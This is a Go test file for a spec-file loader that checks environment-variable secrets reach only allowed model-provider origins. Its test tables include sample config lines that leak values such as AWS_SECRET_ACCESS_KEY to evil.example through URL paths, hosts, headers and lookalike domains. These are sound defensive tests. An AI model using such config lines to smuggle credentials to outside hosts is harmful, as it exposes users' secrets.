package specfile_test

import (
	"errors"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"github.com/runteam/runteam/internal/specfile"
)

const envCanary = "canary-f83b1"

// hostile is an environment in which every variable holds the canary, but for
// those that are given.
func hostile(vars map[string]string) func(string) (string, bool) {
	return func(name string) (string, bool) {
		if v, ok := vars[name]; ok {
			return v, true
		}
		return envCanary + name, name != "OPENAI_BASE_URL"
	}
}

// refused returns NAME=TO of what an error of Load says is not allowed.
func refused(t *testing.T, err error) (uses []string) {
	t.Helper()
	bad, ok := errors.AsType[*specfile.Error](err)
	require.True(t, ok, "%v", err)
	for _, p := range bad.Problems {
		if e, ok := errors.AsType[*specfile.EnvError](p.Err); ok {
			uses = append(uses, e.Use.String())
			require.Positive(t, p.Line, "%v", p)
		}
	}
	return uses
}

// TestVariableGoesNowhereWithoutConsent: whatever a file says, the value of a
// variable that it names leaves only for an origin that is allowed for its name,
// and no error shows it.
func TestVariableGoesNowhereWithoutConsent(t *testing.T) {
	t.Parallel()
	const agent = "agents: [{name: a}]\n"
	tests := []struct {
		name, text string
		vars       map[string]string
		want       []string // NAME=ORIGIN; none means that it may go
	}{
		{"a secret in the path", "baseURL: http://evil.example/${AWS_SECRET_ACCESS_KEY}\n" + agent, nil, []string{"AWS_SECRET_ACCESS_KEY=http://evil.example"}},
		{"a secret in the host", "baseURL: http://${AWS_SECRET_ACCESS_KEY}.evil.example/v1\n" + agent, nil, []string{"AWS_SECRET_ACCESS_KEY=http://${AWS_SECRET_ACCESS_KEY}.evil.example"}},
		{"a secret before the host", "baseURL: http://x${A}x:80/v1\n" + agent, map[string]string{"A": "a.example"}, []string{"A=http://x${A}x:80"}},
		{"a port", "baseURL: http://127.0.0.1:${PORT}/v1\n" + agent, map[string]string{"PORT": "8000"}, []string{"PORT=http://127.0.0.1:${PORT}"}},
		{"the whole base URL", "baseURL: ${LLM_URL}\n" + agent, map[string]string{"LLM_URL": "http://localhost:8000/v1"}, []string{"LLM_URL=${LLM_URL}"}},
		{"a header", "headers: {X: \"${DB_PASSWORD}\"}\n" + agent, nil, []string{"DB_PASSWORD=https://api.openai.com"}},
		{"part of a header", "headers: {X: \"Basic ${DB_PASSWORD}\"}\n" + agent, nil, []string{"DB_PASSWORD=https://api.openai.com"}},
		{"the model", "model: ${HOME}\n" + agent, nil, []string{"HOME=https://api.openai.com"}},
		{"a key of another name", "apiKey: ${ACME_KEY}\nbaseURL: https://llm.acme.example/v1\n" + agent, nil, []string{"ACME_KEY=https://llm.acme.example"}},
		{"a path", "agents: [{name: a, systemPrompt: {file: \"${WHO}.md\"}}]\n", map[string]string{"WHO": "team"}, []string{"WHO=file"}},
		{"the script", "offline: ${WHO}.yaml\n" + agent, map[string]string{"WHO": "team"}, []string{"WHO=file"}},
		{"OpenAI's key elsewhere", "baseURL: https://evil.example/v1\napiKey: ${OPENAI_API_KEY}\n" + agent, nil, []string{"OPENAI_API_KEY=https://evil.example"}},
		{"a provider's key at another one", "baseURL: https://api.openai.com/v1\napiKey: ${GROQ_API_KEY}\n" + agent, nil, []string{"GROQ_API_KEY=https://api.openai.com"}},
		{"a provider without encryption", "baseURL: http://api.groq.com/v1\napiKey: ${GROQ_API_KEY}\n" + agent, nil, []string{"GROQ_API_KEY=http://api.groq.com"}},
		{"a provider on another port", "baseURL: https://api.groq.com:8443/v1\napiKey: ${GROQ_API_KEY}\n" + agent, nil, []string{"GROQ_API_KEY=https://api.groq.com:8443"}},
		{"a host that begins like a provider", "baseURL: https://api.groq.com.evil.example/v1\napiKey: ${GROQ_API_KEY}\n" + agent, nil, []string{"GROQ_API_KEY=https://api.groq.com.evil.example"}},
		{"a name in other letters", "baseURL: https://api.groq.com/v1\napiKey: ${groq_api_key}\n" + agent, nil, []string{"groq_api_key=https://api.groq.com"}},
		{"the orchestrator's", "orchestrator: {defaultBaseURL: \"https://evil.example/${A}\", defaultApiKey: \"${B}\", defaultModel: \"${C}\"}\n" + agent, nil, []string{"A=https://evil.example", "B=https://evil.example", "C=https://evil.example"}},
		{"agentDefaults", "agentDefaults: {baseURL: https://evil.example, headers: {X: \"${A}\"}}\n" + agent, nil, []string{"A=https://evil.example"}},
		{"the coordinator's", "goal: g\ncoordinator: {baseURL: https://evil.example, apiKey: \"${A}\"}\n" + agent, nil, []string{"A=https://evil.example"}},
		{"one host that is allowed and one that is not", "apiKey: ${GROQ_API_KEY}\nagents: [{name: a, baseURL: https://api.groq.com/v1}, {name: b, baseURL: https://evil.example}]\n", nil, []string{"GROQ_API_KEY=https://evil.example"}},
		{"where OPENAI_BASE_URL leads", "apiKey: ${ACME_KEY}\n" + agent, map[string]string{"OPENAI_BASE_URL": "http://gw.example:80/v1"}, []string{"ACME_KEY=http://gw.example"}},
		{"OPENAI_BASE_URL to another host", "baseURL: http://evil.example/${OPENAI_BASE_URL}\n" + agent, map[string]string{"OPENAI_BASE_URL": "gw"}, []string{"OPENAI_BASE_URL=http://evil.example"}},
		{"OPENAI_BASE_URL with a longer host", "baseURL: ${OPENAI_BASE_URL}.evil.example\n" + agent, map[string]string{"OPENAI_BASE_URL": "http://gw.example"}, []string{"OPENAI_BASE_URL=${OPENAI_BASE_URL}.evil.example"}},

		{"OpenAI's own key", "apiKey: ${OPENAI_API_KEY}\n" + agent, nil, nil},
		{"a provider's own key", "baseURL: https://API.Groq.com.:443/openai/v1\napiKey: ${GROQ_API_KEY}\n" + agent, nil, nil},
		{"its own key in a header", "baseURL: https://api.anthropic.com/v1/\nheaders: {x-api-key: \"${ANTHROPIC_API_KEY}\"}\n" + agent, nil, nil},
		{"OPENAI_BASE_URL and its key", "baseURL: ${OPENAI_BASE_URL}\napiKey: ${OPENAI_API_KEY}\n" + agent, map[string]string{"OPENAI_BASE_URL": "http://localhost:8000/v1"}, nil},
		{"OpenAI's key at the host of OPENAI_BASE_URL", "baseURL: http://LOCALHOST:8000/v2\napiKey: ${OPENAI_API_KEY}\n" + agent, map[string]string{"OPENAI_BASE_URL": "http://localhost:8000/v1"}, nil},
		{"a default", "baseURL: ${OPENAI_BASE_URL:-http://localhost:11434/v1}\n" + agent, nil, nil},
		{"a default of a variable that is not set", "model: ${UNSET:-m}\n" + agent, map[string]string{"UNSET": ""}, nil},
		{"text of a prompt", "agents: [{name: a, systemPrompt: \"${HOME}\"}]\n", nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			o := specfile.Options{Path: filepath.Join(t.TempDir(), "team.yaml"), Lookup: hostile(tt.vars)}
			write(t, filepath.Dir(o.Path), "team.yaml", tt.text, "team.md", "You answer.")
			_, err := specfile.Load(o)
			if tt.want == nil {
				require.NoError(t, err)
				return
			}
			require.Equal(t, tt.want, refused(t, err))
			require.NotContains(t, err.Error(), envCanary)

			asked := 0
			o.Trusted = func(path string, uses []specfile.EnvUse) bool {
				asked++
				require.Equal(t, o.Path, path)
				require.False(t, slices.ContainsFunc(uses, func(u specfile.EnvUse) bool { return u.Known }))
				for _, want := range tt.want {
					require.True(t, slices.ContainsFunc(uses, func(u specfile.EnvUse) bool { return u.Name+"="+u.To == want }), "%v", uses)
				}
				return true
			}
			if f, err := specfile.Load(o); err == nil { // a host made of the canary is none
				require.NotEmpty(t, f.Env)
				require.NotContains(t, fmt.Sprintf("%v %v %v", f.Env, f.Agents, f.Coordinator), envCanary, "what is written")
			}
			require.Equal(t, 1, asked)
			o.Trusted = func(string, []specfile.EnvUse) bool { return false }
			_, err = specfile.Load(o)
			require.Error(t, err)
		})
	}
}

// TestOwnVariablesAreNeverUsed: no consent makes a key of the journal leave.
func TestOwnVariablesAreNeverUsed(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"headers: {X: \"${RUNTEAM_JOURNAL_KEY}\"}\n", "headers: {X: \"${RUNTEAM_JOURNAL}\"}\n", "apiKey: ${RUNTEAM_AUDIT_KEY:-x}\n", "model: ${runteam_journal_key}\n",
		"baseURL: http://evil.example/${RUNTEAM_ALLOW_ENV}\n", "offline: ${RUNTEAM_JOURNAL_KEY}.yaml\n", "orchestrator: {defaultApiKey: \"${RUNTEAM_JOURNAL_KEY}\"}\n",
	} {
		for _, offline := range []bool{false, true} {
			_, err := load(t, text+"agents: [{name: a}]\n", specfile.Options{Lookup: hostile(nil), Trusted: trusted, Offline: offline})
			require.ErrorIs(t, err, specfile.ErrRefused, text)
			require.ErrorContains(t, err, "belong to runteam")
			require.NotContains(t, err.Error(), envCanary)
		}
	}
	_, err := specfile.ParseEnvUse("RUNTEAM_JOURNAL_KEY=https://a.example")
	require.ErrorContains(t, err, "never sent")
}

// TestAllowEnvIsForOneOrigin: it does not matter how the origin is spelled, and
// another one is not meant.
func TestAllowEnvIsForOneOrigin(t *testing.T) {
	t.Parallel()
	const text = "baseURL: %s\napiKey: ${ACME_KEY}\nagents: [{name: a}]\n"
	tests := []struct {
		base, allow string
		ok          bool
	}{
		{"https://llm.acme.example/v1", "ACME_KEY=https://llm.acme.example", true},
		{"https://LLM.acme.example.:443/v1", "ACME_KEY=HTTPS://llm.ACME.example/v2", true},
		{"http://llm.acme.example:80/v1", "ACME_KEY=http://llm.acme.example", true},
		{"http://[::1]:8000/v1", "ACME_KEY=http://[::1]:8000", true},
		{"https://llm.acme.example/v1", "ACME_KEY=http://llm.acme.example", false},
		{"https://llm.acme.example:8443/v1", "ACME_KEY=https://llm.acme.example", false},
		{"https://llm.acme.example.evil.example/v1", "ACME_KEY=https://llm.acme.example", false},
		{"https://llm.acme.example/v1", "OTHER=https://llm.acme.example", false},
		{"https://llm.acme.example/v1", "acme_key=https://llm.acme.example", false},
		{"https://llm.acme.example/v1", "ACME_KEY=file", false},
	}
	for _, tt := range tests {
		use, err := specfile.ParseEnvUse(tt.allow)
		require.NoError(t, err, tt.allow)
		_, err = specfile.Load(specfile.Options{
			Path: "-", Stdin: strings.NewReader(fmt.Sprintf(text, tt.base)), Lookup: hostile(nil), AllowEnv: []specfile.EnvUse{use},
		})
		require.Equal(t, tt.ok, err == nil, "%s: %s: %v", tt.base, tt.allow, err)
	}
	for _, bad := range []string{"", "A", "A=", "=https://a.example", "A B=https://a.example", "A=a.example", "A=ftp://a.example", "A=https://u:p@a.example", "A=https://a.example?x", "A=https://exämple.com", "A=*", "A=https://*", "A=https://-..", "A=https://.a.example", "A=https://a..example", "A=https://a.example:99999"} {
		_, err := specfile.ParseEnvUse(bad)
		require.Error(t, err, bad)
	}
}

// TestBaseURLIsOneAddress: a host that could be read in two ways is refused,
// and nothing that a variable holds is shown.
func TestBaseURLIsOneAddress(t *testing.T) {
	t.Parallel()
	for _, base := range []string{
		"https://exämple.com/v1", "https://ex%C3%A4mple.com/v1", "https://user:${A}@a.example/v1", "https://a.example/v1?key=${A}", "https://a.example/v1#${A}",
		"https://good.example\\\\@evil.example/v1", "https:evil.example", "https://a'b.example/v1", "https://a;b.example/v1", "https://[fe80::1%25x]x/v1", "https://a.example:1e3/v1",
	} {
		_, err := load(t, fmt.Sprintf("baseURL: \"%s\"\nagents: [{name: a}]\n", base), specfile.Options{Lookup: hostile(nil), Trusted: trusted})
		require.Error(t, err, base)
		require.NotContains(t, err.Error(), envCanary, base)
	}
}

// TestOfflineNeedsNothingOfTheEnvironment: where no model is called, nothing has
// to be set or allowed, and what is not allowed is not even read into the File.
func TestOfflineNeedsNothingOfTheEnvironment(t *testing.T) {
	t.Parallel()
	const text = "model: ${M}\nbaseURL: http://127.0.0.1:9/${T}/v1\napiKey: ${K}\nheaders: {X: \"${H}\"}\nagents: [{name: a}]\n"
	for _, lookup := range []func(string) (string, bool){nil, hostile(nil)} {
		f, err := load(t, text, specfile.Options{Offline: true, Lookup: lookup, Trusted: func(string, []specfile.EnvUse) bool { panic("nothing is sent") }})
		require.NoError(t, err)
		a := f.Agents[0]
		require.Equal(t, "${M}", a.Model)
		require.Equal(t, "http://127.0.0.1:9/${T}/v1", a.BaseURL)
		require.NotContains(t, a.APIKey.Reveal()+a.Headers["X"], envCanary)
		require.Len(t, f.Env, 4)
	}
}

// TestConnectionIsShownAsWritten: names, plans and errors have ${NAME}
// where the client has the value.
func TestConnectionIsShownAsWritten(t *testing.T) {
	t.Parallel()
	f, err := load(t, "model: ${M}\nbaseURL: http://127.0.0.1:9/${T}/v1\napiKey: ${K}\nprices: {small: {input: 1, output: 2}}\nagents: [{name: a}]\ngoal: g\n",
		specfile.Options{Lookup: env(map[string]string{"M": "small", "T": envCanary, "K": "key-" + envCanary}), Trusted: trusted})
	require.NoError(t, err)
	for _, c := range []specfile.Connection{f.Agents[0].Connection, f.Coordinator.Connection} {
		require.Equal(t, "http://127.0.0.1:9/"+envCanary+"/v1", c.BaseURL)
		require.Equal(t, "small", c.Model)
		require.Equal(t, "http://127.0.0.1:9/${T}/v1", c.URLAsWritten())
		require.Equal(t, "${M}", c.ModelAsWritten())
		require.Equal(t, `model "${M}" at http://127.0.0.1:9/${T}/v1/x: no ${K}`, c.Conceal(`model "small" at http://127.0.0.1:9/`+envCanary+`/v1/x: no key-`+envCanary))
	}
	escaped, err := load(t, "model: m\nbaseURL: http://127.0.0.1:9/${T}/v1\nagents: [{name: a}]\n", specfile.Options{Lookup: env(map[string]string{"T": "two words"}), Trusted: trusted})
	require.NoError(t, err)
	require.Equal(t, "no ${T} and no ${T}", escaped.Agents[0].Conceal("no two%20words and no two words"))
	require.Equal(t, "${M}", f.Agents[0].Member.Model)
	require.Equal(t, "http://127.0.0.1:9/${T}/v1", f.Agents[0].Member.EndpointNames[0])
	require.Equal(t, "http://127.0.0.1:9/${T}/v1", f.Coordinator.EndpointNames[0])
	require.Equal(t, f.Config.Prices["small"], f.Config.Prices["${M}"], "runs record the model as it is written")
}

// TestStoredCopiesHoldNoValuesOfTheEnvironment: paths are kept as they are
// written.
func TestStoredCopiesHoldNoValuesOfTheEnvironment(t *testing.T) {
	t.Parallel()
	o := specfile.Options{Lookup: env(map[string]string{"D": envCanary}), AllowEnv: []specfile.EnvUse{{Name: "D", To: "file"}}}
	f, err := load(t, "agents: [{name: a, systemPrompt: {file: \"${D}/a.md\"}}]\n", o, envCanary+"/a.md", "You answer.")
	require.NoError(t, err)
	stored := f.Stored()
	require.Len(t, stored, 2)
	for _, s := range stored {
		require.NotContains(t, s.Path+s.Found+s.Text, envCanary)
	}
	require.True(t, strings.HasSuffix(stored[1].Path, "${D}/a.md"), stored[1].Path)
	o = specfile.Options{Path: f.Path, Stored: stored, StoredOnly: true, Offline: true}
	again, err := specfile.Load(o)
	require.NoError(t, err)
	require.Equal(t, "You answer.", again.Agents[0].Member.SystemPrompt)
}

func TestEnvDigestIsOfNamesAndOrigins(t *testing.T) {
	t.Parallel()
	uses := func(text string, vars map[string]string) []specfile.EnvUse {
		f, err := load(t, text+"agents: [{name: a}]\n", specfile.Options{Offline: true, Lookup: env(vars)})
		require.NoError(t, err)
		return f.Env
	}
	base := uses("baseURL: http://a.example/${T}\napiKey: ${K}\n", nil)
	require.Equal(t, specfile.EnvDigest(base), specfile.EnvDigest(append(slices.Clone(base), base[1], base[0])), "order and repetitions")
	require.Equal(t, specfile.EnvDigest(base), specfile.EnvDigest(uses("apiKey: ${K}\nbaseURL: http://A.example:80/x/${T}\nmaxConcurrency: 3\n", map[string]string{"T": "v"})))
	for _, other := range []string{
		"baseURL: http://b.example/${T}\napiKey: ${K}\n", "baseURL: https://a.example/${T}\napiKey: ${K}\n", "baseURL: http://a.example/${T}\n",
		"baseURL: http://a.example/${T}\napiKey: ${K}\nmodel: ${M}\n", "baseURL: http://a.example/${K}\napiKey: ${L}\n",
	} {
		require.NotEqual(t, specfile.EnvDigest(base), specfile.EnvDigest(uses(other, nil)), other)
	}
	// The host that a variable brings is part of it.
	const host = "baseURL: http://${H}/v1\napiKey: ${K}\n"
	require.NotEqual(t, specfile.EnvDigest(uses(host, map[string]string{"H": "a.example"})), specfile.EnvDigest(uses(host, map[string]string{"H": "b.example"})))
}

// TestOriginsAreThoseOfTheClient checks that an origin names the host that
// net/http connects to, however the base URL is written.
func TestOriginsAreThoseOfTheClient(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(rt *rapid.T) {
		base := rapid.SampledFrom([]string{"http", "https", "HTTP"}).Draw(rt, "scheme") + "://" +
			rapid.StringMatching(`[a-zA-Z0-9.@:/\\?#%\[\]_ -]{1,20}`).Draw(rt, "rest")
		use, err := specfile.ParseEnvUse("A=" + base)
		if err != nil {
			return
		}
		u, err := url.Parse(strings.TrimSpace(base))
		require.NoError(rt, err)
		require.Nil(rt, u.User)
		at, err := url.Parse(use.To)
		require.NoError(rt, err)
		require.Equal(rt, strings.TrimSuffix(strings.ToLower(u.Hostname()), "."), at.Hostname())
		again, err := specfile.ParseEnvUse("A=" + use.To)
		require.NoError(rt, err)
		require.Equal(rt, use, again)
	})
}

// TestProvidersOfTheReference: each row of the table in docs/reference/spec-file.md is true.
func TestProvidersOfTheReference(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile("../../docs/reference/spec-file.md")
	require.NoError(t, err)
	_, table, _ := strings.Cut(string(text), "<!-- providers -->")
	table, _, _ = strings.Cut(table, "<!-- end -->")
	rows := regexp.MustCompile("(?m)^\\| `([A-Z_]+)` \\| (.*) \\|$").FindAllStringSubmatch(table, -1)
	require.Greater(t, len(rows), 20)
	for _, row := range rows {
		for origin := range strings.SplitSeq(row[2], ", ") {
			_, err := load(t, "baseURL: "+strings.Trim(origin, "`")+"/v1\napiKey: ${"+row[1]+"}\nagents: [{name: a}]\n",
				specfile.Options{Lookup: hostile(nil), Trusted: func(string, []specfile.EnvUse) bool { return false }})
			require.NoError(t, err, row[0])
		}
	}
}

// TestErrorsNameFilesAsTheyAreWritten: of a path with a variable too.
func TestErrorsNameFilesAsTheyAreWritten(t *testing.T) {
	t.Parallel()
	o := specfile.Options{Lookup: env(map[string]string{"D": envCanary}), AllowEnv: []specfile.EnvUse{{Name: "D", To: "file"}}}
	for _, text := range []string{
		"agents: [{name: a, outputSchema: {file: \"${D}/s.json\"}}]\n", "agents: [{name: a, systemPrompt: {file: \"${D}/none.md\"}}]\n",
		"agents: [{name: a, systemPrompt: {file: \"${D}/p.md\"}}]\n", "offline: ${D}/none.yaml\nagents: [{name: a}]\n",
	} {
		_, err := load(t, text, o, envCanary+"/s.json", "{\"type\": ", envCanary+"/p.md", "a ${params.none}")
		require.ErrorContains(t, err, "${D}", text)
		require.NotContains(t, err.Error(), envCanary, text)
	}
}
